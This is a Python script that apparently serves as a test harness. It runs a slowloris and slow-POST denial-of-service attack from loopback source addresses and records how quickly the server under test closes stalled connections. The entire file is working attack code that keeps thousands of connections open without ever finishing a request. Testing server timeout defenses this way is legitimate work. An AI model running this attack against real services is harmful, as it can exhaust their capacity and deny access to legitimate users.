#!/usr/bin/env python3
"""Slow-client attack for the `slowloris` scenario: many connections that never finish.

Usage: slowloris.py HOST PORT N --sources K --interval S --body-share F --duration S

Opens N connections to HOST:PORT, spread over the source addresses 127.0.0.2 .. 127.0.0.(K+1)
(each address has its own ephemeral port range, so thousands of connections never run out of
ports). Each connection is one of two kinds:
  head (1 - F of them): sends a request line and then one more header field every S seconds,
       never the blank line that ends the head (classic slowloris);
  body (F of them):     sends a complete head with `Content-Length: 1000000`, then one body
       byte every S seconds (slow POST / "R.U.D.Y.").
When the server closes a connection (its head or body deadline), the attacker records how long
it lived and what, if anything, the server answered (e.g. 408), and opens a new one at once, so
that the pressure stays at N connections for the whole run.

Prints "READY opened=<n> failed=<n> seconds=<t>" once the first N connections are open, then,
at the end of --duration (or on EOF on stdin / SIGTERM), one line "RESULT <json>" with:
  cut_head / cut_body:   connections the server closed, by kind
  cut_by_status:         what those connections were answered before the close ("408", "none", ...)
  lifetime_s:            median / p90 / max seconds from connect to the close, per kind
  open_at_end:           attack connections still open at the end
  connect_failed:        connects that failed (refused, reset, timed out)
Standard library only (asyncio).
"""
import argparse
import asyncio
import json
import random
import signal
import statistics
import sys
import time

from sources import addresses, allow_connections, connect_from


def pctl(vals, p):
    if not vals:
        return None
    vals = sorted(vals)
    return round(vals[min(int(p / 100 * len(vals)), len(vals) - 1)], 3)


class Attack:
    def __init__(self, args):
        self.a = args
        self.stop = asyncio.Event()
        self.open = 0
        self.opened_total = 0
        self.connect_failed = 0
        self.cut = {"head": 0, "body": 0}
        self.by_status = {}
        self.life = {"head": [], "body": []}
        self.sent_bytes = 0
        self.host_hdr = f"{args.host}:{args.port}"
        self.sources = addresses(args.sources, 2)

    def source(self, i):
        return self.sources[i % len(self.sources)]

    async def one(self, i, kind):
        """One attack connection; returns when the server closed it (True) or at the end (False)."""
        t0 = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(
                connect_from(self.a.host, self.a.port, self.source(i)), 10)
        except (OSError, asyncio.TimeoutError):
            self.connect_failed += 1
            await asyncio.sleep(0.2)
            return True
        self.open += 1
        self.opened_total += 1
        if kind == "head":
            first = f"GET /slow/{i} HTTP/1.1\r\nHost: {self.host_hdr}\r\nUser-Agent: gh-slowloris\r\n".encode()
        else:
            first = (f"POST /slow/{i} HTTP/1.1\r\nHost: {self.host_hdr}\r\nUser-Agent: gh-slowloris\r\n"
                     f"Content-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n").encode()
        answer = b""
        closed = False
        n = 0
        try:
            writer.write(first)
            self.sent_bytes += len(first)
            # Start each connection's trickle at a random phase, so writes are spread evenly.
            next_write = time.monotonic() + random.uniform(0, self.a.interval)
            read = asyncio.ensure_future(reader.read(4096))
            while not self.stop.is_set():
                timeout = max(0.0, next_write - time.monotonic())
                done, _ = await asyncio.wait({read}, timeout=timeout)
                if done:
                    try:
                        data = read.result()
                    except OSError:
                        data = b""
                    if not data:
                        closed = True
                        break
                    answer += data[:64] if len(answer) < 64 else b""
                    read = asyncio.ensure_future(reader.read(4096))
                    continue
                n += 1
                chunk = f"X-Slow-{n}: {n}\r\n".encode() if kind == "head" else b"x"
                try:
                    writer.write(chunk)
                    await writer.drain()
                    self.sent_bytes += len(chunk)
                except OSError:
                    closed = True
                    break
                next_write += self.a.interval
            if not read.done():
                read.cancel()
        finally:
            self.open -= 1
            writer.close()
        if not closed:
            return False
        self.cut[kind] += 1
        self.life[kind].append(time.monotonic() - t0)
        status = "none"
        if answer.startswith(b"HTTP/1."):
            status = answer[9:12].decode(errors="replace")
        self.by_status[f"{kind}:{status}"] = self.by_status.get(f"{kind}:{status}", 0) + 1
        return True

    async def worker(self, i, kind):
        while not self.stop.is_set():
            if not await self.one(i, kind):
                return

    async def run(self):
        n, nbody = self.a.n, int(round(self.a.n * self.a.body_share))
        kinds = ["body" if i < nbody else "head" for i in range(n)]
        random.Random(1).shuffle(kinds)
        t0 = time.monotonic()
        workers = []
        for i in range(0, n, 200):
            for j in range(i, min(n, i + 200)):
                workers.append(asyncio.ensure_future(self.worker(j, kinds[j])))
            await asyncio.sleep(0.01)
            # wait until this batch is connected (or failed) before opening the next
            deadline = time.monotonic() + 10
            while self.opened_total + self.connect_failed < min(n, i + 200) and time.monotonic() < deadline:
                await asyncio.sleep(0.01)
        print(f"READY opened={self.open} failed={self.connect_failed} seconds={time.monotonic() - t0:.2f}",
              flush=True)
        t_ready = time.monotonic()
        loop = asyncio.get_running_loop()
        loop.add_signal_handler(signal.SIGTERM, self.stop.set)
        stdin = asyncio.StreamReader()
        await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(stdin), sys.stdin)

        async def watch_stdin():
            while await stdin.readline():
                pass
            self.stop.set()
        w = asyncio.ensure_future(watch_stdin())
        try:
            await asyncio.wait_for(self.stop.wait(), self.a.duration)
        except asyncio.TimeoutError:
            pass
        w.cancel()
        open_at_end = self.open
        self.stop.set()
        await asyncio.wait(workers, timeout=10)
        out = {
            "connections": n, "body_connections": nbody, "sources": self.a.sources,
            "interval_s": self.a.interval, "attack_seconds": round(time.monotonic() - t_ready, 2),
            "opened_total": self.opened_total, "connect_failed": self.connect_failed,
            "cut_head": self.cut["head"], "cut_body": self.cut["body"], "cut_by_status": self.by_status,
            "lifetime_s": {k: {"median": pctl(v, 50), "p90": pctl(v, 90), "max": pctl(v, 100)}
                           for k, v in self.life.items()},
            "open_at_end": open_at_end, "sent_bytes": self.sent_bytes,
        }
        if self.life["head"]:
            out["lifetime_head_mean_s"] = round(statistics.mean(self.life["head"]), 3)
        print("RESULT " + json.dumps(out), flush=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("n", type=int)
    ap.add_argument("--sources", type=int, default=8)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--body-share", type=float, default=0.1)
    ap.add_argument("--duration", type=float, default=600)
    args = ap.parse_args()
    allow_connections(args.n)
    asyncio.run(Attack(args).run())


if __name__ == "__main__":
    main()
